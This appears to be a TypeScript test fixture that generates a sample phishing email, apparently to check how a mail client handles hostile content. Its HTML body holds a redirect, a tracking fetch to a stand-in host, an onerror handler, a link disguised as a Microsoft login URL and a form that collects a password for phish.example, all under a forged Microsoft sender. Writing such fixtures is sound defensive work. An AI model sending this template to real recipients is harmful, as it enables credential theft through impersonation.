import { randomUUID } from 'node:crypto';
import { headerDate } from '../smtp/message-header.js';
import { textPart, writeMessage } from './mime-writer.js';

/** It would run, fetch, ask for a password and lead elsewhere than it says. None of the servers that it names exists. */
const HTML = `<html><head><meta http-equiv="refresh" content="0;url=https://phish.example/"></head><body>
<p>Dear practice, your mailbox is almost full. Please confirm your password:</p>
<script>fetch('https://tracker.example/ran')</script>
<img src="https://tracker.example/seen.gif" onerror="document.title='harmed'" alt="">
<p><a href="https://phish.example/login">https://login.microsoftonline.com/</a></p>
<form action="https://phish.example/take"><input name="password"><button>Confirm</button></form>
<iframe src="https://phish.example/"></iframe>
</body></html>`;

/** An email by which a stranger wants to do harm. @param now epoch ms */
export function harmfulEmail(to: string, now: number): Buffer {
  const header = [
    'From: "Microsoft account team" <security@phish.example>',
    `To: ${to}`,
    'Subject: Your mailbox is almost full',
    `Date: ${headerDate(now)}`,
    `Message-ID: <${randomUUID()}@phish.example>`,
  ];
  return writeMessage(header, textPart(HTML, { subtype: 'html', charset: 'utf-8', encoding: 'quoted-printable' }));
}
